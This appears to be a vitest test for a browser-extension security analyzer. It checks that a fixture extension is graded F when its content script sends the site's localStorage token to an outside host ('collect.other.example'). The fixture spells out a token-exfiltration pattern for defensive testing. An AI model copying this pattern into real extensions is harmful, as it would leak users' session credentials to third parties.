import { expect, test } from 'vitest';
import { analyze } from '../../analyze.ts';
import { memoryTree } from '../../sources/memory.ts';

/** A site's token that goes back to the site, by a helper that is given the address. */

const gradeOf = async (address: string): Promise<string> => {
  const files = {
    'manifest.json': JSON.stringify({
      manifest_version: 3,
      name: 'Notes',
      version: '1',
      content_scripts: [{ matches: ['https://app.site.example/*'], js: ['c.ts'] }],
    }),
    'client.ts':
      "export const send = (url: string, options?: RequestInit) => { const headers = new Headers(); headers.set('authorization', localStorage.getItem('token') || ''); return fetch(url, { ...options, headers }); };\n",
    'c.ts': `import { send } from './client';\nsend('${address}', { method: 'GET' }).then(show);\n`,
  };
  return (await analyze(memoryTree(files), { kind: 'extension' })).score.grade;
};

test.each([
  ['https://api.site.example/me', ['A+', 'A']],
  ['https://collect.other.example/me', ['F']],
])('%s', async (address, grades) => {
  expect(grades).toContain(await gradeOf(address));
});
